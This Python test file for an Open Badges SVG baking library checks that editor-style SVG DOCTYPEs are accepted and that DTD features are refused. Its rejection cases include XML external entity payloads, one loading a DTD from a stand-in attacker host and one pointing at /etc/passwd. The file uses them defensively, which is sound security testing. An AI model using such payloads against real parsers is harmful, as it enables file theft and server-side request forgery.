"""The SVG DOCTYPE editors write is read; every other DTD feature stays refused.

Regression for issue 11 item 2: the bare ``<!DOCTYPE svg PUBLIC … svg11.dtd>`` is accepted, but
internal subsets, entity declarations (also via a DOCTYPE with no subset), other document types
and external references are refused, and the external DTD is never loaded.
"""

from __future__ import annotations

import pytest

from obv3.baking import bake_svg, extract, unbake_svg
from obv3.errors import BakingError

SVG11 = (
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
)
#: What a vector editor saves: XML declaration, generator comment, DOCTYPE, then the artwork.
EDITOR_EXPORT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    b"<!-- Generator: a vector editor, SVG Export Plug-In -->\n" + SVG11 + b"\n"
    b'<svg version="1.1" xmlns="http://www.w3.org/2000/svg" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64">\n'
    b'  <circle cx="32" cy="32" r="30" fill="#0a6"/>\n</svg>\n'
)
OB2_BAKED = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG11 + b"\n"
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" '
    b'width="10" height="10"><openbadges:assertion '
    b'verify="https://issuer.example/assertions/1"/><rect width="10" height="10"/></svg>'
)
CREDENTIAL = {"type": ["VerifiableCredential", "OpenBadgeCredential"], "id": "urn:uuid:1"}


def test_editor_export_bakes_and_unbakes() -> None:
    baked = bake_svg(EDITOR_EXPORT, CREDENTIAL)
    assert unbake_svg(baked) == CREDENTIAL
    assert SVG11 in baked  # the designer's prologue is kept byte for byte


def test_ob2_sample_with_doctype_is_read() -> None:
    found = extract(OB2_BAKED)
    assert (found.payload, found.ob_version) == ("https://issuer.example/assertions/1", "2.0")


def test_svg_10_and_system_only_doctypes_are_accepted() -> None:
    for doctype in (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.0//EN" '
        b'"http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">',
        b'<!DOCTYPE svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        b"<!DOCTYPE svg>",
    ):
        image = doctype + b'<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>'
        assert unbake_svg(bake_svg(image, CREDENTIAL)) == CREDENTIAL


@pytest.mark.parametrize(
    ("image", "message"),
    [
        (
            b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
            "internal subset",
        ),
        (b'<!DOCTYPE svg []><svg xmlns="http://www.w3.org/2000/svg"/>', "internal subset"),
        (
            SVG11[:-1] + b' [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            "internal subset",
        ),
        (
            b'<!DOCTYPE svg [<!ELEMENT svg ANY><!ATTLIST svg a CDATA "x">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            "internal subset",
        ),
        (
            b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x.dtd">'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            "document type 'html'",
        ),
        # The external DTD is never loaded, so entities it would define stay undefined.
        (
            SVG11 + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;</text></svg>',
            "undefined entity",
        ),
        (
            b'<!DOCTYPE svg SYSTEM "file:///etc/passwd">'
            b'<svg xmlns="http://www.w3.org/2000/svg">&xxe;</svg>',
            "undefined entity",
        ),
    ],
    ids=[
        "entity",
        "empty-subset",
        "parameter-entity",
        "element-attlist",
        "not-svg",
        "external-entity-never-loaded",
        "file-system-id",
    ],
)
def test_dtd_features_stay_refused(image: bytes, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake_svg(image)
    with pytest.raises(BakingError, match=message):
        bake_svg(image, CREDENTIAL)
